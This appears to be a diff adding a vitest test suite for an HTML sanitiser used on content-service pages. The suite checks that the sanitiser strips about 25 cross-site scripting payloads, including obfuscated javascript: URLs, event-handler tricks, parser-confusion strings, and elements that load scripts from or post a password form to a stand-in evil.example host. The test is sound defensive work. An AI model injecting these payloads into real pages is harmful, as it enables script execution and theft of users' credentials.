@@ -1,0 +1,87 @@
+import { parse } from 'node-html-parser';
+import { describe, expect, it } from 'vitest';
+import { sanitiseHtml } from '#shared/content/sanitise-html.ts';
+
+const ACTING = 'script, svg, math, iframe, object, embed, form, input, style, base, meta, link, noscript';
+const PERMITTED_ATTRIBUTES = ['href', 'src', 'title', 'open'];
+
+describe('HTML from the content service', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
+    '<img src="x" onerror="alert(1)">',
+    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:alert(1)">x</a>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x"></object><embed src="x">',
+    '<form action="https://evil.example"><input name="password"></form>',
+    '<style>body{background:url(https://evil.example)}</style>',
+    '<p style="background:url(https://evil.example)">x</p>',
+    '<p class="site-header" id="main-content">x</p>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<!--<img src="--><img src=x onerror=alert(1)>">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<details ontoggle="alert(1)" open>x</details>',
+    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  ])('cannot act: %s', (html) => {
+    const document = parse(sanitiseHtml(html), { comment: true });
+    expect(document.querySelectorAll(ACTING)).toEqual([]);
+    for (const { attributes } of document.querySelectorAll('*')) {
+      const names = Object.keys(attributes);
+      expect(names.filter((name) => !PERMITTED_ATTRIBUTES.includes(name))).toEqual([]);
+      for (const address of [attributes.href, attributes.src])
+        expect(address ?? '/').toMatch(/^(?:\/|https?:|[\w.]+$)/);
+    }
+    expect(document.toString()).not.toContain('<!--');
+  });
+
+  it('keeps what editors write', () => {
+    const html =
+      '<h2 id="part">Part</h2><p>Text with <strong>weight</strong>, a <a href="/guidance/a#b">link</a> and ' +
+      '<span data-term="phishing">a term</span>.</p><ul><li>One</li></ul>' +
+      '<table><caption>Facts</caption><tr><th scope="row">A</th><td colspan="2">B</td></tr></table>';
+    expect(sanitiseHtml(html)).toBe(html);
+  });
+
+  it('keeps one h1 for the page', () => {
+    expect(sanitiseHtml('<h1>Title</h1>')).toBe('<h2>Title</h2>');
+  });
+
+  it.each(['https://other.example/', '//other.example/', 'http://other.example'])(
+    'opens the external link %s in a new tab, without a way back to us [2.1-63]',
+    (href) => {
+      expect(sanitiseHtml(`<a href="${href}" target="x" rel="opener">x</a>`)).toBe(
+        `<a href="${href}" target="_blank" rel="noopener">x</a>`,
+      );
+    },
+  );
+
+  it('opens an internal link in the same tab', () => {
+    expect(sanitiseHtml('<a href="/a" target="_blank" rel="opener">x</a>')).toBe('<a href="/a">x</a>');
+  });
+
+  it.each([
+    '<p>a</p>',
+    '<p>a & b &lt;c&gt;</p>',
+    '<a href="//x">x</a>',
+    '<div><p>un<b>closed',
+    '</p>'.repeat(50),
+  ])('is the same when it is sanitised again: %s', (html) => {
+    const once = sanitiseHtml(html);
+    expect(sanitiseHtml(once)).toBe(once);
+  });
+
+  it('survives nesting and length', () => {
+    expect(sanitiseHtml('<div>'.repeat(20_000))).toBeTypeOf('string');
+    expect(sanitiseHtml('<'.repeat(100_000))).toBeTypeOf('string');
+  });
+});
